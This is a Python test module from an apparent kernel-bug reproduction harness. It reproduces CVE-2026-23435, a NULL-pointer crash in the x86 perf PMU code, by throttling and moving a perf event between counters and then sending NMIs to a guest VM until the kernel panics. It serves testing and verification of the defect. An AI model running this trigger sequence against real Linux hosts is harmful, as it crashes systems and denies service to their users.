# SPDX-License-Identifier: LGPL-2.1-or-later
"""CVE-2026-23435, by pure timing: a throttled event is moved to another counter and then unthrottled; the next NMI
follows the NULL that x86_pmu_enable() left in events[]."""

import time

from .. import Skip, truth
from . import NULL_EVENTS, Outcome, rule

SUMMARY = "an active counter over a NULL events[], NMI oops (CVE-2026-23435; kernels that have it)"
DEFAULT_KERNEL = "vulnerable"
PATIENCE = 90  # seconds of NMIs; usually one is enough


def suits(kernel):
    return None if kernel.code["null_events"] else "its x86_pmu_start() or x86_pmu_enable() does not have the defect"


def run(guest):
    # One sample a tick is enough for throttling.
    guest.run("echo 250 >/proc/sys/kernel/perf_event_max_sample_rate")
    guest.start("pmu cpu:0 ev:cycles,cpu=0 ev:instr,cpu=0,period=100003,mmap fork cpu:0 pause")
    guest.start("pmu cpu:2 ev:cycles ev:br,leader ev:brmiss,group loop")
    guest.start("pmu cpu:3 ev:cref,cpu=3 ev:cmiss,cpu=3,pinned,period=5000 loop")
    since = len(guest.output)
    guest.type("pmu cpu:1 shift:1 &\n")
    end, count = time.monotonic() + PATIENCE, 0
    while "Kernel panic" not in guest.output[since:]:
        if time.monotonic() > end:
            raise Skip(f"{guest.kernel.release} survived {count} NMIs in {PATIENCE} s")
        guest.nmi()
        guest.pump()
        count += 1
    guest.wait_for_panic(since)
    guest.halt()
    struck = [cpu for cpu in range(guest.cpus) if truth.pmu_of_cpu(guest, cpu)["active_but_null"]]
    return Outcome(
        f"kernel.perf_event_max_sample_rate=250, {count} NMIs, on CPU 1 `pmu shift`: opens per-CPU events A (counting) and B "
        "(sampling), closes A, opens a task event C, so that B, throttled, moves to A's counter. No steering by the debugger.",
        {"class": "null-deref"}, [rule(NULL_EVENTS, "proven", "crashed", True, struck)])
